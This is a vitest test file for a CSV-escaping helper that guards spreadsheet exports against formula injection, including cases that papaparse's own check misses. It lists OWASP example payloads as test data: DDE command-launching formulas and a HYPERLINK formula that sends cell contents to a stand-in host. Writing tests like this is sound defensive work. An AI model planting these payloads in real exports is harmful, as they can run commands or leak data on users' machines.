import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvSafeCell, csvSafeText, isFormulaLike } from "./csv-safe";

// Payloads and the rule from OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection):
// cells must not begin with = + - @ TAB (0x09) or CR (0x0D); the remedy is a leading apostrophe.
// The payloads are the page's examples, from memory.
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://example.invalid?leak=\"&A1&A2,\"Error: please click for further information\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+2",
  "\r=1+2",
];

describe("csvSafeText (OWASP, CSV Injection)", () => {
  it("prefixes an apostrophe to each of OWASP's example payloads", () => {
    for (const payload of OWASP_PAYLOADS) expect(csvSafeText(payload), JSON.stringify(payload)).toBe(`'${payload}`);
  });

  it("prefixes it when the formula also holds a line break (papaparse's own check misses these)", () => {
    for (const cell of ["=HYPERLINK(\"http://x\",\"y\")&\"\n\"", "=1+2\r\n", "+1\n+2", "@SUM(A1)\n", "-1\r\n-2"]) {
      expect(csvSafeText(cell), JSON.stringify(cell)).toBe(`'${cell}`);
      // papaparse 5.7's built-in check, for comparison: it lets each of these through.
      expect(Papa.unparse([[cell]], { escapeFormulae: true }).startsWith(`"'`), JSON.stringify(cell)).toBe(false);
    }
  });

  it("prefixes it when a line break or blanks come before the trigger (an importer that trims would expose it)", () => {
    for (const cell of ["\n=1+2", "\r+1", "\r\n@SUM(A1)", "  =1+2", "\u3000-1", "\n\n=HYPERLINK(\"http://x\")"]) {
      expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(true);
      expect(csvSafeText(cell)).toBe(`'${cell}`);
    }
  });

  it("prefixes the full-width forms of = + - @ (defensive; not in OWASP's list)", () => {
    for (const cell of ["\uFF1D1+2", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)"]) expect(csvSafeText(cell)).toBe(`'${cell}`);
  });

  it("leaves ordinary text alone, triggers inside a cell included", () => {
    for (const cell of ["DS-1042", "Ikeda Farm", "a=b", "1+1", "note\n=not first", "'=already text", "", "  ", "山田錦 =", "H26-0001"]) {
      expect(csvSafeText(cell), JSON.stringify(cell)).toBe(cell);
    }
  });

  it("leaves numbers numbers, negative ones included, and empty cells empty", () => {
    expect(csvSafeCell(-400)).toBe(-400);
    expect(csvSafeCell(0)).toBe(0);
    expect(csvSafeCell(null)).toBe(null);
    expect(csvSafeCell(true)).toBe(true);
    expect(csvSafeCell("-400")).toBe("'-400");
  });

  it("keeps RFC 4180 quoting right: the escaped cell reads back whole, line breaks and quotes included", () => {
    const cells = OWASP_PAYLOADS.concat(["=HYPERLINK(\"http://x\",\"y\")&\"\n\"", "\n=1", "plain, with a comma"]);
    const text = Papa.unparse([cells.map(csvSafeText)], { newline: "\r\n" });
    const [row] = Papa.parse<string[]>(text, { newline: "\r\n" }).data;
    expect(row).toEqual(cells.map((c) => (c === "plain, with a comma" ? c : `'${c}`)));
  });
});
